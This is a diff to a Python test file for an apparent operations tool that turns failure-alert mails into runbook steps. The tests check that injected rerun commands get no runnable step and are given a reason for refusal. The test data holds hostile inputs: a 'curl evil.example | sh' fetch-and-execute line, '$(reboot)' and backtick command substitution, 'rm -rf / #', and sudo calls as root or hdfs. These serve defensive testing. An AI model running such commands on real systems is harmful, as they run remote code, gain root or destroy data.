@@ -9,6 +9,7 @@ from datetime import UTC, datetime
 import pytest
 
 from opsweek.alerts.runbook import RunbookError, _checked, render_command, steps_for
+from opsweek.site import Site
 from tests.alerts.helpers import parsed
 from tests.alerts.test_parsers import RERUN
 
@@ -65,20 +66,60 @@ def test_refine_rerun_is_the_mails_own_command_requoted() -> None:
 
 
 @pytest.mark.parametrize(
-    "evil",
+    ("evil", "reason"),
     [
-        RERUN + "; curl evil.example | sh",
-        RERUN + " $(reboot)",
-        RERUN.replace("refine_event", "refine_event`id`"),
-        "sudo -u root kerberos-run-command analytics refine_event --since=x",
-        "rm -rf / #",
+        (RERUN + "; curl evil.example | sh", "'2024-01-02T05:00:00.000Z;' is not a time"),
+        (RERUN + " $(reboot)", "'$(reboot)' is not an option"),
+        (RERUN.replace("refine_event", "refine_event`id`"), "names the job refine_event`id`"),
+        ("sudo -u root kerberos-run-command analytics refine_event --since=x", "keytab of"),
+        ("rm -rf / #", "it asks to run \"rm -rf / '#'\", not a Refine job"),
+        # issue 29: a mail chose the account and the program of the rerun
+        (
+            "sudo -u root kerberos-run-command root pwned --since=2024-01-02T03:00:00.000Z "
+            "--until=$'\\n'pwned",
+            "runs as root; Refine runs as analytics",
+        ),
+        (
+            "sudo -u hdfs kerberos-run-command hdfs refine_event --since=2024-01-02T03 "
+            "--until=2024-01-02T04",
+            "runs as hdfs",
+        ),
+        (RERUN.replace("kerberos-run-command", "/tmp/x"), "runs /tmp/x, not kerberos-run-command"),
+        (RERUN + " --config_file=/tmp/evil.properties", "'--config_file=/tmp/evil.properties'"),
+        (RERUN.replace("--since='2024", "--since='yesterday"), "is not a time"),
+        (RERUN.replace("mediawiki_foo|", "mediawiki_foo|("), "is not a regex"),
+        (RERUN.replace("=true", "=yes please"), "'yes' is not true or false"),
+        (RERUN + " --until=2024-01-02T06:00:00Z", "--until is given twice"),
+        (RERUN + " --dry_run=maybe", "'maybe' is not true or false"),
+        (RERUN.replace("--since='2024-01-02T03:00:00.000Z'", "$'--since=\\n'"), "not an option"),
     ],
 )
-def test_refine_rerun_that_is_not_one_is_refused(evil: str) -> None:
+def test_a_rerun_that_asks_for_anything_else_has_no_runnable_step(evil: str, reason: str) -> None:
     alert = parsed("refine_failure.eml")[0]
     found = steps_for(alert.kind, {**alert.details, "rerun_command": evil}, SEEN)
-    assert not any(s.id == "rerun" and s.command for s in found)
-    assert any("does not look like a Refine rerun" in s.text for s in found)
+    assert not any(s.id in ("rerun", "opsweek-rerun") for s in found)
+    assert not any("sudo" in s.command for s in found if s.id != "yarn-logs")
+    (refused,) = [s.text for s in found if s.text.startswith("opsweek will not rerun this")]
+    assert reason in refused
+
+
+def test_the_job_account_and_wrapper_come_from_the_settings() -> None:
+    alert = parsed("refine_failure.eml")[0]
+    site = Site(jobs_user="analytics-search", kerberos="krb-run", launcher="launch9.example.org")
+    options = "--since='2024-01-02T03:00:00.000Z' --until='2024-01-02T05:00:00.000Z'"
+    found = {
+        s.id: s
+        for s in steps_for(alert.kind, {**alert.details, "rerun_command": options}, SEEN, site=site)
+    }
+    assert found["rerun"].command == (
+        "sudo -u analytics-search krb-run analytics-search refine_event "
+        "--since=2024-01-02T03:00:00.000Z --until=2024-01-02T05:00:00.000Z"
+    )
+    assert found["rerun"].host == "launch9.example.org"
+    assert found["yarn-logs"].command.startswith("sudo -u analytics-search yarn logs")
+    other = steps_for(alert.kind, {**alert.details, "job": "refine_mine"}, SEEN, site=site)
+    assert any("refine_mine is not one of the Refine jobs" in s.text for s in other)
+    assert not any(s.id == "rerun" for s in other)
 
 
 def test_refine_mail_without_a_rerun_gets_one_built_from_its_partitions() -> None:
